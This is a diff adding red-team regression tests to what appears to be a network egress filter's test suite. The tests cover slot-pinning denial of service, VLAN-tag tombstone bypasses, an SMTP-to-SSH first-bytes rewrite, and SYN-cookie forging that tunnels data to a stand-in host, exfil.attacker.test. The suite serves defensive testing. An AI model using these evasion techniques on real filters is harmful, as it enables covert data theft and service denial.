@@ -4094,6 +4094,116 @@ def case_rst_reuse_below_ok(n):
     return cap, {"pass": [passm(n)]}
 
 
+# Denial of service from inside (red team round 14): the first-bytes slots and header logs
+# held by flows whose server never answers or never acknowledges. Fail-closed, but every
+# new flow of the worker was refused; a holder kept too long is now refused in its place.
+def honest_session(cap, n, cport, isn, host=S1):
+    u = ETcp(cap, host, cport, E2M, 443, isn=isn, rtt_us=20000)
+    u.handshake()
+    u.data(True, hello(n + "honest"))
+    u.data(False, server_hello_flight(n + "honest"))
+    u.data(True, CCS + tls_appdata(n + "hfin", 53))
+    u.data(True, marked_record(passm(n), n + "hreq", 200))
+    u.data(False, tls_appdata(n + "hresp", 400))
+    u.data(True, tls_appdata(n + "hreq2", 120))
+    u.close()
+
+
+@case
+def case_slot_pin_ttl_ok(n, pins=1200):
+    """Must-allow: an inside host sends 1200 ClientHellos for e2m with TTL 1 (any socket may
+    set it: they expire at the next hop, so no server ever answers), each after a full
+    handshake: every one is allowed and keeps its first-bytes slot to compare a later copy
+    of its hello with (512 slots a worker). 6 s on, an honest session of another host:
+    before, it was refused at its SYN (exception:classifier_alloc); now the stalest holder
+    gives its slot up (and is refused)."""
+    cap = Capture()
+    for i in range(pins):
+        t = ETcp(cap, S1, 30000 + i, E2M, 443, isn=200000 + 7919 * i, rtt_us=2000)
+        t.handshake(gap=300)
+        t.raw(True, "PA", hello(n + "pin"), ipkw={"ttl": 1})
+        t.cseq += len(hello(n + "pin"))
+    cap.idle(6)
+    honest_session(cap, n, 46201, 6201)
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_slot_pin_fast_ok(n, pins=1300):
+    """Must-allow: the same pin, fast: 1300 TTL-1 hellos from one host within about a second
+    (none stale yet), then at once an honest session of another host (10.10.1.11). One
+    host counts for at most 1/8 of a worker's slots (its flows past that do not count): the
+    honest flow, which shows its handshake, takes a slot from one that does not count."""
+    cap = Capture()
+    for i in range(pins):
+        t = ETcp(cap, S1, 30000 + i, E2M, 443, isn=200000 + 7919 * i, rtt_us=150)
+        t.handshake(gap=100)
+        t.raw(True, "PA", hello(n + "pin"), ipkw={"ttl": 1})
+        t.cseq += len(hello(n + "pin"))
+    honest_session(cap, n, 46204, 6204, host="10.10.1.11")
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_slot_pin_spoof_ok(n, pins=1300):
+    """Must-allow: 1300 flows from forged zone addresses (10.10.2.x to 10.10.7.x) to an address
+    of the e2m endpoint that never answers (a SYN-ACK would acknowledge the SYN only, and the
+    hello read before it would make the flow ambiguous): a SYN and at once a ClientHello
+    for e2m (allowed; each keeps its slot until the responder answers), all within about a
+    second; then an honest session. A flow whose bytes never showed the handshake counts for
+    no source, so the honest flow takes its slot."""
+    cap = Capture()
+    for i in range(pins):
+        src = "10.10.%d.%d" % (2 + i // 250, 1 + i % 250)
+        t = ETcp(cap, src, 30000 + i, E2M, 443, isn=200000 + 7919 * i, rtt_us=150)
+        t.raw(True, "S", options=SYN_OPTS, gap=100)
+        t.cseq += 1
+        t.raw(True, "PA", hello(n + "pin"), ack=0)
+        t.cseq += len(hello(n + "pin"))
+    honest_session(cap, n, 46205, 6205)
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_hlog_pin_noack_ok(n, pins=2100):
+    """Must-allow: 2100 allowed sessions whose server answered the hello but never
+    acknowledges the client's next record (lost after us, or a server gone quiet): each holds
+    a header log with an entry its receiver never acknowledged (1024 logs a worker). 12 s
+    on, an honest session: before, each of its record segments found no log and was dropped
+    (conform_log_none) until the holders ended an hour later; now the log whose oldest entry
+    waited longest (over 10 s) is taken back and its flow refused."""
+    cap = Capture()
+    for i in range(pins):
+        t = ETcp(cap, S1, 20000 + i, E2M, 443, isn=300000 + 7919 * i, rtt_us=2000)
+        t.handshake(gap=300)
+        t.data(True, hello(n + "pin"))
+        t.data(False, server_hello_flight(n + "pin"))
+        t.send(True, CCS + tls_appdata(n + "pinfin", 53))
+    cap.idle(12)
+    honest_session(cap, n, 46202, 6202)
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_smtp_first_rewrite(n):
+    """Inside client plus a loss after us, at the client's first bytes of a flow allowed at
+    the server's greeting: an EHLO line that is lost on the way on (the relay never
+    acknowledges it), then another copy at the same sequence number: an SSH banner and
+    packet. To a reading that no longer keeps the first bytes, a retransmission."""
+    cap = Capture()
+    t = ETcp(cap, S1, 46203, MAIL, 25, isn=6203, rtt_us=4000)
+    t.handshake()
+    t.data(False, b"220 mail.customs.example ESMTP Postfix (Debian/GNU)\r\n")
+    base = t.cseq
+    ehlo = b"EHLO ws-10.e2m.customs.example\r\n"
+    swap = SSH_BANNER[:len(ehlo)]
+    t.raw(True, "PA", ehlo, seq=base)
+    t.raw(True, "PA", swap + ssh_binary(n, leak(n)), seq=base, gap=300000)
+    t.cseq = base + len(swap) + len(ssh_binary(n, leak(n)))
+    t.raw(False, "A")
+    return cap, {"leak": [leak(n)]}
+
+
 @case
 def case_finold_rst_fill(n):
     """Inside client alone: fin_old_close, then gap_fill_reopen with plaintext HTTP as the
@@ -4554,6 +4664,281 @@ def case_reneg_server_ok(n):
     t.data(False, tls_appdata(n + "resp2", 300))
     t.close()
     return cap, {"pass": [passm(n)]}
+
+
+# ------------------------------------------------ red team round 15 (attacking 59ba08e, tombstones)
+
+def established_on(cap, cport, s, isn, n, vlans=()):
+    """tls_established with 802.1Q tags on every frame."""
+    t = ETcp(cap, S1, cport, s, 443, vlans=vlans, isn=isn, rtt_us=20000)
+    t.handshake()
+    t.data(True, hello(n))
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.data(True, tls_appdata(n + "req", 180))
+    t.data(False, tls_appdata(n + "resp", 700))
+    return t
+
+
+@case
+def case_vlan_idle_fill(n):
+    """Inside client able to send on two VLANs that the same next hop routes (a trunked
+    host or VM, or a double tag through the native VLAN): an allowed E2M session on VLAN
+    100, idle 3601 s (our entry expires and leaves a tombstone, keyed with VLAN 100), then
+    gap_fill_reopen on VLAN 200. The server sees one 5-tuple (the router strips the tags)
+    and answers with a challenge ACK, drops the fill as old and reads the plaintext as the
+    old connection's; to aduana the SYN on VLAN 200 is another key, with no tombstone."""
+    cap = Capture()
+    t = established_on(cap, 46701, E2M, 6701, n, vlans=((0x8100, 100),))
+    old_next, srv = t.cseq, t.sseq
+    cap.idle(3601)
+    t.vlans = ((0x8100, 200),)
+    gap_fill_reopen(t, n, old_next, srv, http_leak(n))
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_vlan_live_fill(n):
+    """The same without waiting: the session on VLAN 100 is still open in our table (no
+    tombstone needed at all); a SYN on VLAN 200 with the same 5-tuple opens a second,
+    unrelated flow to us, while the server reads it as the open connection's bytes."""
+    cap = Capture()
+    t = established_on(cap, 46702, E2M, 6702, n, vlans=((0x8100, 100),))
+    old_next, srv = t.cseq, t.sseq
+    t.vlans = ((0x8100, 200),)
+    gap_fill_reopen(t, n, old_next, srv, http_leak(n))
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_idle_week_fill(n):
+    """Inside client alone, patient: idle_fill, but the gap-fill SYN comes a week and an
+    hour after the session's last packet. Our entry was swept at ~3700 s (a packet of the
+    same address pair drives the sweep of that worker, as live traffic would) and left a
+    tombstone until then + TOMB_LIFE_S; the server (Linux keeps an idle connection for
+    ever: the premise of idle_fill) still holds the connection when it has gone."""
+    cap = Capture()
+    t = tls_established(cap, S1, 46703, E2M, 6703, n)
+    old_next, srv = t.cseq, t.sseq
+    cap.idle(3700)
+    # Packets of that worker (the same address pair) in more than one burst, so that its
+    # housekeeping runs between them (a live worker sweeps on the wall clock anyway).
+    for i in range(100):
+        udp(cap, S1, 40000, E2M, 9, b"tick")
+    cap.idle(7 * 24 * 3600 + 60)
+    for i in range(100):
+        udp(cap, S1, 40001, E2M, 9, b"tick")
+    gap_fill_reopen(t, n, old_next, srv, http_leak(n))
+    return cap, {"leak": [leak(n)]}
+
+
+def front_hello_around(n, tail):
+    """A portal.customs.example ClientHello whose last extension (GREASE 0x7a7a, opaque)
+    holds `tail` as its data: (fill, tail), fill being every byte before tail."""
+    exts = ([sni_ext([sni_entry(FRONT_NAME.encode())])] + std_exts(n + "ck") + [alpn_ext()]
+            + [ext(0x7A7A, tail)])
+    h = hello(n + "ck", exts=exts)
+    assert h.endswith(tail)
+    return h[:-len(tail)], tail
+
+
+COOKIE_SA_OPTS = [("MSS", 1460)]   # a cookie SYN-ACK without timestamps keeps no WScale/SACK
+
+
+def cookie_fill(t, n, z, yp, tail, fill_ack=None):
+    """After SYN z answered by the SYN cookie yp (seq yp, ack z+1): the fill (a portal
+    hello up to its last extension's data) at z+1 without ACK (a listener discards a
+    segment without ACK; to aduana, before the verdict, it is read), then `tail` at the
+    latent ISN x = z + len(fill) with ACK cookie(x) + 1 = yp + (x - z) + 1 (Linux
+    secure_tcp_syn_cookie is the client's ISN plus terms that do not depend on it): the
+    server creates the connection of ISN x from that ACK and reads `tail` as its first
+    bytes; aduana reads it as the portal hello's last extension, before the verdict (no
+    ACK check)."""
+    fill, tail = front_hello_around(n, tail)
+    x = (z + len(fill)) & 0xFFFFFFFF
+    y = (yp + (x - z)) & 0xFFFFFFFF
+    if fill_ack is None:
+        t.raw(True, "P", fill, seq=(z + 1) & 0xFFFFFFFF)
+    else:
+        # an ACK that is no cookie for ISN z: the listener answers with a RST at that number
+        t.raw(True, "PA", fill, seq=(z + 1) & 0xFFFFFFFF, ack=fill_ack)
+        t.raw(False, "R", seq=fill_ack)
+    t.raw(True, "PA", tail, seq=(x + 1) & 0xFFFFFFFF, ack=(y + 1) & 0xFFFFFFFF)
+    nxt = (x + 1 + len(tail)) & 0xFFFFFFFF
+    t.raw(False, "A", seq=(y + 1) & 0xFFFFFFFF, ack=nxt)
+    t.raw(False, "PA", server_hello_flight(n), seq=(y + 1) & 0xFFFFFFFF, ack=nxt)
+    return x, y
+
+
+@case
+def case_syncookie_front_fill(n):
+    """Inside client alone, the shared front in SYN-cookie mode (tcp_syncookies=2, a SYN
+    proxy, or a listen queue the client filled itself with SYNs through us): one SYN (ISN
+    z), the cookie SYN-ACK yp. The client never acknowledges it; a cookie is linear in the
+    client ISN, so it computes the cookie of an ISN x it never sent and opens that
+    connection with an ACK alone (cookie_fill). The front reads the exfil ClientHello at
+    x+1 and serves exfil.attacker.test; aduana, whose stream starts at z+1, reads a portal
+    hello whose last extension holds those bytes, and allows."""
+    cap = Capture()
+    z = 0x3A000000
+    t = ETcp(cap, S1, 46704, FRONT, 443, isn=z, rtt_us=20000)
+    yp = 0x7C123456
+    t.raw(True, "S", seq=z, options=SYN_OPTS)
+    t.raw(False, "SA", seq=yp, ack=z + 1, options=COOKIE_SA_OPTS)
+    cookie_fill(t, n, z, yp, hello(n, sni=EVIL, sid=sid32(leak(n))))
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_syncookie_reopen_fill(n):
+    """The same on a tombstoned key: the first SYN (ISN x) gets the cookie y, and an exact
+    RST closes that flow to us (to a cookie listener, a RST finds nothing: ignored); its
+    tombstone makes the next flow wait for a SYN-ACK. The SYN at z = x - len(fill) gets
+    the cookie y - (x - z): a SYN-ACK, so the gate opens; the fill, then the exfil hello at
+    x+1 with ACK y+1, which creates the connection of ISN x. A server that kept the old
+    connection (here: could still create it) does send a SYN-ACK."""
+    cap = Capture()
+    fill, _ = front_hello_around(n, hello(n, sni=EVIL, sid=sid32(leak(n))))
+    x = 0x3B000000
+    y = 0x7D654321
+    z = (x - len(fill)) & 0xFFFFFFFF
+    yp = (y - (x - z)) & 0xFFFFFFFF
+    t = ETcp(cap, S1, 46705, FRONT, 443, isn=x, rtt_us=20000)
+    t.raw(True, "S", seq=x, options=SYN_OPTS)
+    t.raw(False, "SA", seq=y, ack=x + 1, options=COOKIE_SA_OPTS)
+    t.raw(True, "R", seq=x + 1)
+    t.raw(True, "S", seq=z, options=SYN_OPTS, gap=200000)
+    t.raw(False, "SA", seq=yp, ack=z + 1, options=COOKIE_SA_OPTS)
+    x2, y2 = cookie_fill(t, n, z, yp, hello(n, sni=EVIL, sid=sid32(leak(n))))
+    assert (x2, y2) == (x, y)
+    return cap, {"leak": [leak(n)]}
+
+
+def new_session(cap, cport, isn, n, first_syn=True):
+    """A whole new e2m session on the same ports (handshake, hello, flight, a marked request)."""
+    u = ETcp(cap, S1, cport, E2M, 443, isn=isn, rtt_us=20000)
+    u.sseq = (isn * 7 + 4000) & 0x7FFFFFFF
+    if first_syn:
+        u.handshake()
+    else:
+        u.cseq += 1
+        u.raw(False, "SA", seq=u.sseq, ack=u.cseq, options=SYN_OPTS)
+        u.sseq += 1
+        u.raw(True, "A")
+    u.data(True, hello(n + "2"))
+    u.data(False, server_hello_flight(n + "2"))
+    u.data(True, CCS + tls_appdata(n + "fin2", 53))
+    u.data(True, marked_record(passm(n), n + "req2", 200))
+    u.data(False, tls_appdata(n + "resp2", 400))
+    u.close()
+    return u
+
+
+@case
+def case_reuse_challenge_rst_retry_ok(n):
+    """Must-allow, RFC 5961 half-open recovery: the client lost its connection (a reboot)
+    that the server still holds, idle 3601 s here (tombstone); it reuses the ports: SYN,
+    the server's challenge ACK, the client's RST at that ACK's number (the server resets
+    the old connection), the SYN again 1 s later, a SYN-ACK, a whole session."""
+    cap = Capture()
+    t = tls_established(cap, S1, 46706, E2M, 6706, n)
+    old_next, srv = t.cseq, t.sseq
+    cap.idle(3601)
+    z = (old_next + 9999999) & 0xFFFFFFFF
+    t.raw(True, "S", seq=z, options=SYN_OPTS)
+    t.raw(False, "A", seq=srv, ack=old_next)          # challenge ACK
+    t.raw(True, "R", seq=old_next)                     # tcp_rcv_synsent_state_process: reset at its ack
+    t.raw(True, "S", seq=z, options=SYN_OPTS, gap=1000000)
+    new_session(cap, 46706, z, n, first_syn=False)
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_reuse_tw_rst_retry_ok(n):
+    """Must-allow: a session closed by the server first (it holds TIME_WAIT), the client
+    reuses the ports 2 s later with an ISN below, no timestamps: TIME_WAIT answers with an
+    ACK, the client resets at its number (TIME_WAIT goes), the SYN again, a SYN-ACK."""
+    cap = Capture()
+    t = tls_established(cap, S1, 46707, E2M, 6707, n)
+    t.raw(False, "FA")
+    t.sseq += 1
+    t.raw(True, "FA")
+    t.cseq += 1
+    t.raw(False, "A")
+    old_next, srv = t.cseq, t.sseq
+    z = (old_next - 3000) & 0xFFFFFFFF
+    assert z < old_next
+    t.raw(True, "S", seq=z, options=SYN_OPTS, gap=2000000)
+    t.raw(False, "A", seq=srv, ack=old_next)          # TIME_WAIT's ACK
+    t.raw(True, "R", seq=old_next)
+    t.raw(True, "S", seq=z, options=SYN_OPTS, gap=1000000)
+    new_session(cap, 46707, z, n, first_syn=False)
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_reuse_synack_lost_ok(n):
+    """Must-allow: port reuse after 3601 s idle (tombstone): the server's SYN-ACK is lost
+    after us, the client sends its SYN again, the server its SYN-ACK again, a session."""
+    cap = Capture()
+    t = tls_established(cap, S1, 46708, E2M, 6708, n)
+    cap.idle(3601)
+    z = (t.cseq + 123456) & 0xFFFFFFFF
+    u = ETcp(cap, S1, 46708, E2M, 443, isn=z, rtt_us=20000)
+    u.raw(True, "S", seq=z, options=SYN_OPTS)
+    u.raw(False, "SA", seq=u.sseq, ack=z + 1, options=SYN_OPTS)   # lost after us
+    u.raw(True, "S", seq=z, options=SYN_OPTS, gap=1000000)
+    new_session(cap, 46708, z, n, first_syn=False)
+    return cap, {"pass": [passm(n)]}
+
+
+
+class SplitVlanTcp(ETcp):
+    """ETcp whose client frames carry cvlans and server frames svlans."""
+
+    def __init__(self, *a, cvlans=(), svlans=(), **kw):
+        super().__init__(*a, **kw)
+        self.cvlans, self.svlans = cvlans, svlans
+
+    def raw(self, from_client, flags, *a, **kw):
+        self.vlans = self.cvlans if from_client else self.svlans
+        return ETcp.raw(self, from_client, flags, *a, **kw)
+
+
+@case
+def case_vlan_return_fill(n):
+    """vlan_live_fill with the routing a real router does: the client sends its new SYN,
+    fill and plaintext on VLAN 200, while the server's answers come back on VLAN 100 (the
+    router's route to 10.10.1.10), where they meet the old flow (the challenge ACK and the
+    duplicate ACKs are ACKs of the old connection to it). The new flow is read from its
+    client frames alone."""
+    cap = Capture()
+    t = established_on(cap, 46709, E2M, 6709, n, vlans=((0x8100, 100),))
+    old_next, srv = t.cseq, t.sseq
+    u = SplitVlanTcp(cap, S1, 46709, E2M, 443, isn=6709, rtt_us=20000,
+                     cvlans=((0x8100, 200),), svlans=((0x8100, 100),))
+    u.cseq, u.sseq = t.cseq, t.sseq
+    gap_fill_reopen(u, n, old_next, srv, http_leak(n))
+    # The plaintext sent again on VLAN 200 (a client whose bytes were not acknowledged):
+    # the new flow's record is then the tuple's last, as the scorer reads it.
+    u.raw(True, "PA", http_leak(n), seq=old_next, ack=srv, gap=200000)
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_syncookie_front_fill_ack(n):
+    """syncookie_front_fill with an ACK on the fill (yp: one before the SYN-ACK's end, no
+    cookie for ISN z): the listener answers it with a RST at yp (not at our responder's
+    next byte: no close to us), and the rest goes as before. The attack does not rest on
+    the fill having no ACK."""
+    cap = Capture()
+    z = 0x3C000000
+    t = ETcp(cap, S1, 46710, FRONT, 443, isn=z, rtt_us=20000)
+    yp = 0x7E123456
+    t.raw(True, "S", seq=z, options=SYN_OPTS)
+    t.raw(False, "SA", seq=yp, ack=z + 1, options=COOKIE_SA_OPTS)
+    cookie_fill(t, n, z, yp, hello(n, sni=EVIL, sid=sid32(leak(n))), fill_ack=yp)
+    return cap, {"leak": [leak(n)]}
 
 
 def main(argv):
